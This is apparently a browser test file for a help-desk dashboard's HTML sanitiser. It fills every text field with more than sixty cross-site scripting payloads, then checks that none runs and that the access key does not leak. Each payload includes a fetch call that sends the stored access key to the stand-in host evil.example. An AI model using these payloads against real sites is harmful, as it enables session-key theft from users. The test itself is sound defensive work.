// Issue 4, "untrusted HTML": a corpus of hostile payloads placed through the API in every text the
// dashboard shows — ticket titles, descriptions, comments, staff notes, task titles and notes, tag
// labels and colours, file names, custom-field values, CC, queue names and requester names — then
// every screen that shows them is opened (board, search, each ticket with remote images allowed,
// the editor, the new-ticket form, the kiosk). None may run, load a stylesheet or frame, leave an
// event handler or a script URL in the page, or send the access key anywhere.
import { api, apiSend, assert, assertEq, launchBrowser, signIn } from './harness.mjs';

const J = (n) => `window.__xss(${n});fetch('//evil.example/'+localStorage.getItem('mojo.access_key'))`;

/** The corpus: each template gets the payload's own number in its script. */
export const PAYLOADS = [
  (j) => `<script>${j}</script>`,
  (j) => `<img src=x onerror="${j}">`,
  (j) => `<svg onload="${j}">`,
  (j) => `<svg><script>${j}</script></svg>`,
  (j) => `<body onload="${j}">`,
  (j) => `<iframe src="javascript:${j}"></iframe>`,
  (j) => `<iframe srcdoc="<script>${j}</script>"></iframe>`,
  (j) => `<a href="javascript:${j}">click</a>`,
  (j) => `<a href="JaVaScRiPt:${j}">mixed case</a>`,
  (j) => `<a href="&#106;avascript:${j}">entity</a>`,
  (j) => `<a href="java\tscript:${j}">tab</a>`,
  (j) => `<a href=" \u0001javascript:${j}">control char</a>`,
  (j) => `<form action="javascript:${j}"><button>go</button></form>`,
  (j) => `<input autofocus onfocus="${j}">`,
  (j) => `<details open ontoggle="${j}"><summary>x</summary></details>`,
  (j) => `<video><source onerror="${j}"></video>`,
  (j) => `<audio src=x onerror="${j}">`,
  (j) => `<object data="javascript:${j}"></object>`,
  (j) => `<embed src="javascript:${j}">`,
  (j) => `<math><mtext><table><mglyph><style><img src=x onerror="${j}">`,
  (j) => `<noscript><p title="</noscript><img src=x onerror=${j}>">`,
  (j) => `<style>@import 'javascript:${j}';</style>`,
  () => `<link rel=stylesheet href="//evil.example/x.css">`,
  (j) => `<meta http-equiv="refresh" content="0;url=javascript:${j}">`,
  (j) => `<base href="javascript:${j}//">`,
  (j) => `<div style="background:url(javascript:${j})">styled</div>`,
  (j) => `<div style="width: expression(${j})">expr</div>`,
  (j) => `<img src="javascript:${j}">`,
  (j) => `<img srcset="x 1x" onerror="${j}">`,
  (j) => `<marquee onstart="${j}">m</marquee>`,
  (j) => `<select autofocus onfocus="${j}"></select>`,
  (j) => `<textarea autofocus onfocus="${j}"></textarea>`,
  (j) => `<svg><animate onbegin="${j}" attributeName=x dur=1s>`,
  (j) => `<svg><a xlink:href="javascript:${j}"><text x=20 y=20>svg link</text></a></svg>`,
  (j) => `<svg><set attributeName="onmouseover" to="${j}"/></svg>`,
  (j) => `"><script>${j}</script>`,
  (j) => `'><img src=x onerror=${j}>`,
  (j) => `</textarea><script>${j}</script>`,
  (j) => `</title><script>${j}</script>`,
  (j) => `<!--<img src="--><img src=x onerror=${j}//">`,
  (j) => `<![CDATA[<script>${j}</script>]]>`,
  (j) => `<template><script>${j}</script></template><img src=x onerror="${j}">`,
  (j) => `<object data="data:text/html,<script>${j}</script>"></object>`,
  () => `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  (j) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${j}'/>">`,
  (j) => `<button formaction="javascript:${j}">fa</button>`,
  (j) => `<table background="javascript:${j}"><tr><td>t</td></tr></table>`,
  (j) => `<div onmouseover="${j}" style="position:fixed;inset:0">hover anywhere</div>`,
  (j) => `<img name="getElementById"><a id="location" href="javascript:${j}">clobber</a>`,
  (j) => `javascript:${j}`,
  (j) => `{{constructor.constructor('${j}')()}}`,
  (j) => `\${${j}}`,
  (j) => `<scr<script>ipt>${j}</scr</script>ipt>`,
  (j) => `<img src=x onerror=${[...j].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')}>`,
  (j) => `<svg><style><img src=x onerror=${j}></style></svg>`,
  (j) => `<math><style><img src=x onerror=${j}></style></math>`,
  (j) => `<x onclick=${j}>custom element</x>`,
  (j) => `<a href="vbscript:${j}">vb</a>`,
  () => `<img src="https://evil.example/pixel.gif">`,
  () => `<a href="https://evil.example/" target="_self">plain link</a>`,
  () => `<form><input name="access_key" value="steal"></form>`,
  () => `<iframe src="https://evil.example/"></iframe>`,
  (j) => `<img src=x onerror=${j}`,
  (j) => `<svg><foreignObject><img src=x onerror="${j}"></foreignObject></svg>`,
  (j) => `<a href="#" onclick="${j}">onclick</a>`,
  (j) => `<p style="color:red" onpointerenter="${j}">pointer</p>`,
].map((make, n) => make(J(n)));

async function post(base, key, path, body) {
  const r = await apiSend(base, key, 'POST', path, body);
  return r;
}

async function upload(base, key, ticketId, filename, bytes) {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type: 'text/plain' }), filename);
  const r = await fetch(`${base}/api/v2/tickets/${ticketId}/attachments?access_key=${encodeURIComponent(key)}`, { method: 'POST', body: form });
  return r.status;
}

export async function tests({ sandbox }) {
  const base = sandbox.url;
  const key = sandbox.keys.manager;
  return [
    [`${PAYLOADS.length} hostile payloads in every text field: none runs, none reaches the key`, async () => {
      assert(PAYLOADS.length >= 60, `corpus has ${PAYLOADS.length}`);
      const placed = { title: 0, description: 0, comment: 0, note: 0, task: 0, tag: 0, file: 0, custom: 0, cc: 0, queue: 0, user: 0 };
      const queues = await api(base, key, '/ticket_queues');
      const hostileQueues = [];
      for (let n = 0; n < 8; n++) {
        const r = await post(base, key, '/ticket_queues', { name: PAYLOADS[n].slice(0, 250) });
        if (r.status === 201 || r.status === 200) { hostileQueues.push(r.body.id); placed.queue++; }
      }
      const users = [];
      for (let n = 8; n < 16; n++) {
        // Names are short (45 characters): short payloads.
        const short = n % 2 ? `<img src=x onerror=__xss(${n})>` : `<svg onload=__xss(${n})>`;
        const r = await post(base, key, '/users', { email: `xss${n}@evil.example`, first_name: short, last_name: '"><b>X' });
        if (r.status === 201 || r.status === 200) { users.push(r.body.id); placed.user++; }
      }
      const ids = [];
      for (let n = 0; n < PAYLOADS.length; n++) {
        const p = PAYLOADS[n];
        const queue = hostileQueues[n % Math.max(1, hostileQueues.length)] || queues[0].id;
        const r = await post(base, key, '/tickets', {
          title: `XSS${n} ${p}`.slice(0, 255), description: `<p>Payload ${n}</p>${p}`, ticket_queue_id: queue,
          ...(users.length ? { user_id: users[n % users.length] } : {}), cc: `a${n}@x.example`, custom_field_location: p.slice(0, 200),
        });
        assertEq(r.status, 201, `ticket for payload ${n}: ${JSON.stringify(r.body)}`);
        const id = r.body.id;
        ids.push(id);
        placed.title++; placed.description++; placed.cc++;
        if (r.body.custom_field_location !== undefined) placed.custom++;
        if ((await post(base, key, `/tickets/${id}/comments`, { body: `Comment ${p}` })).status < 300) placed.comment++;
        if ((await post(base, key, `/tickets/${id}/staff_notes`, { body: `Note ${p}` })).status < 300) placed.note++;
        if ((await post(base, key, `/tickets/${id}/tasks`, { title: `Task ${p}`.slice(0, 255), notes: p })).status < 300) placed.task++;
        const tag = await post(base, key, `/tickets/${id}/add_tag`, { tag_label: `t${n}${p}`.slice(0, 100) });
        if (tag.status < 300) placed.tag++;
        // Control characters are no part of a file name a browser sends.
        const filename = `f${n}${p}`.replace(/[\u0000-\u001f]/g, '').slice(0, 200) + '.html';
        if ((await upload(base, key, id, filename, `<script>${J(n)}</script>`)) < 300) placed.file++;
      }
      // A tag colour that tries to break out of its style.
      const tags = await api(base, key, '/tags?per_page=100');
      const evilTag = tags.find((t) => t.label?.startsWith('t1'));
      if (evilTag) await apiSend(base, key, 'PUT', `/tags/${evilTag.id}`, { color: 'red;background:url(javascript:alert(1))' });
      for (const [field, count] of Object.entries(placed)) assert(count > 0, `payloads placed in ${field}: ${JSON.stringify(placed)}`);

      const b = await launchBrowser();
      const leaks = [];
      const dialogs = [];
      try {
        await b.page.addInitScript(() => {
          window.__xssHits = [];
          window.__xss = (n) => window.__xssHits.push(n);
          window.__cspViolations = [];
          // Chrome checks inline handlers against the CSP when the sanitiser's inert DOMParser
          // document parses them, and reports that with the document as target; nothing can run
          // there. A violation from an element of the page itself means the sanitiser let it through.
          document.addEventListener('securitypolicyviolation', (e) => {
            if (e.violatedDirective === 'script-src-attr' && e.target instanceof Document) return;
            window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample} ${e.target && e.target.outerHTML ? e.target.outerHTML.slice(0, 120) : e.target}`);
          });
        });
        b.page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
        b.page.on('request', (r) => {
          const u = r.url();
          if (u.includes(key) && !u.startsWith(`${base}/api/v2/`)) leaks.push(u);
          if (u.includes('evil.example') && !/\/pixel\.gif$/.test(u)) leaks.push(u);
        });
        await b.page.route((u) => u.hostname === 'evil.example', (route) => route.abort());
        const check = async (where) => {
          const state = await b.page.evaluate((k) => {
            const bad = [];
            for (const el of document.querySelectorAll('*')) {
              for (const a of el.attributes) {
                if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}`);
                if (/^(href|src|action|formaction|xlink:href|background)$/i.test(a.name) && /^\s*(javascript|vbscript|data:text)/i.test(a.value)) bad.push(`${el.tagName} ${a.name}=${a.value.slice(0, 30)}`);
              }
            }
            for (const el of document.querySelectorAll('.safe-html script, .safe-html iframe, .safe-html object, .safe-html embed, .safe-html form, .safe-html style, .safe-html link, .safe-html meta, .safe-html base, .safe-html svg, .safe-html math')) bad.push(`element ${el.tagName}`);
            for (const a of document.querySelectorAll('.safe-html a[href]')) {
              if (a.target !== '_blank' || !/noopener/.test(a.rel) || !/noreferrer/.test(a.rel)) bad.push(`link without target/rel: ${a.outerHTML.slice(0, 80)}`);
            }
            if (document.documentElement.outerHTML.includes(k)) bad.push('key in the DOM');
            if (document.querySelector('base')) bad.push('a <base> element');
            return { hits: window.__xssHits, csp: window.__cspViolations, bad };
          }, key);
          assertEq(state.hits, [], `${where}: payloads ran`);
          assertEq(state.bad, [], `${where}: unsafe markup`);
          assertEq(state.csp, [], `${where}: CSP had to block something the sanitiser let through`);
          assertEq(dialogs, [], `${where}: dialogs`);
          assertEq(leaks, [], `${where}: requests carrying the key or to the attacker`);
        };
        await signIn(b, base, key, { ready: '[data-status="10"] .ticket-card' });
        await b.page.waitForSelector(`[data-ticket-id="${ids[ids.length - 1]}"]`, { timeout: 30_000 });
        await b.page.mouse.move(600, 400);
        await check('board');
        await b.page.evaluate(() => { location.hash = '#/search?q=XSS1'; });
        await b.page.waitForSelector('.search-results li, .search-result', { timeout: 30_000 }).catch(() => {});
        await b.page.waitForTimeout(500);
        await check('search');
        for (const [i, id] of ids.entries()) {
          await b.page.evaluate((h) => { location.hash = h; }, `#/tickets/${id}`);
          await b.page.waitForSelector(`.ticket-id:text("#${id}")`);
          await b.page.waitForSelector('.timeline-item.note');
          for (const sel of ['button:has-text("Show images")', '.file-chip button:has-text("Preview")']) {
            const buttons = b.page.locator(sel);
            for (let k = 0; k < 10 && (await buttons.count()) > 0; k++) { await buttons.first().click(); await b.page.waitForTimeout(50); }
          }
          await b.page.mouse.move(300 + (i % 5) * 50, 300);
          await check(`ticket ${id} (payload ${i})`);
        }
        // The editor holds the payloads in inputs; the new-ticket form lists hostile queue and user names.
        await b.page.evaluate((h) => { location.hash = h; }, `#/tickets/${ids[1]}`);
        await b.page.click('.head-actions button:has-text("Edit")');
        await b.page.waitForSelector('.ticket-editor');
        await check('editor');
        await b.page.keyboard.press('Escape');
        await b.page.evaluate(() => { location.hash = '#/tickets/new'; });
        await b.page.waitForSelector('.new-ticket');
        await b.page.focus('input[name="requester"]');
        await b.page.waitForTimeout(800);
        await check('new ticket');
        await b.page.evaluate(() => { location.hash = '#/kiosk?rotate=2&refresh=30'; });
        await b.page.waitForTimeout(6000);
        await check('kiosk');
        assertEq(b.problems, [], 'no page errors');
      } finally { await b.close(); }
    }],
  ];
}
